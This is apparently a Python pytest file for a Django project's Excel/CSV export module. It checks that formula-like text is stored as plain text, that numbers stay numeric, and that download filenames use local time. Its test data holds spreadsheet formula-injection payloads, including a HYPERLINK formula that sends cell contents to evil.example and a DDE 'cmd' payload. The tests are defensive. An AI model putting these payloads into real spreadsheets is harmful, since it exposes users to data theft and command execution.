"""One Excel/CSV writer: no cell is ever a formula; numbers stay numbers (issue 11)."""

import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from fazhi.core.spreadsheets import Flag, Sheet, csv_bytes, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def sheet_xml(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml")


def test_formula_like_text_is_stored_as_text_exactly_as_written():
    data = xlsx_bytes(Sheet("t", ["值"], [[v] for v in HOSTILE]))
    assert b"<f>" not in sheet_xml(data)
    ws = load_workbook(io.BytesIO(data)).active
    for row, v in enumerate(HOSTILE, start=2):
        cell = ws.cell(row, 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (v, "s", True)


def test_numbers_stay_numbers_negative_ones_too():
    data = xlsx_bytes(Sheet("t", ["a", "b", "c", "d", "e"], [[-5, Decimal("-1.5"), 0.25, date(2026, 3, 2), True]]))
    ws = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws[2]][:3] == [-5, -1.5, 0.25]
    assert all(c.data_type == "n" for c in ws[2][:3]) and ws.cell(2, 5).value == "是"


def test_control_characters_are_removed_and_flags_are_red():
    data = xlsx_bytes(Sheet("t\x01", ["a"], [["甲\x01乙"], [Flag(0.5)]]))
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "t" and ws.cell(2, 1).value == "甲乙"
    assert ws.cell(3, 1).value == 0.5 and ws.cell(3, 1).fill.fgColor.rgb.endswith("FBEAEA")


@pytest.mark.parametrize("v", HOSTILE)
def test_csv_cells_get_an_apostrophe(v):
    text = csv_bytes(["值"], [[v], [-5]]).decode("utf-8-sig")
    assert text.splitlines()[1].lstrip('"').startswith("'") and text.rstrip().endswith("-5")


def test_xlsx_download_is_named_by_its_stem_and_the_local_time(settings):
    from datetime import datetime
    from unittest import mock
    from urllib.parse import quote
    from zoneinfo import ZoneInfo

    from fazhi.core.spreadsheets import XLSX, xlsx_download

    settings.TIME_ZONE = "Asia/Shanghai"

    at = datetime(2026, 3, 1, 23, 5, tzinfo=ZoneInfo("UTC"))  # 2026-03-02 07:05 in Shanghai
    with mock.patch("django.utils.timezone.now", return_value=at):
        response = xlsx_download(Sheet("单位", ["名称"], [["甲局"]]), stem="单位名录")
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == f"attachment; filename*=UTF-8''{quote('单位名录-202603020705.xlsx')}"
    assert load_workbook(io.BytesIO(response.content)).active.cell(2, 1).value == "甲局"
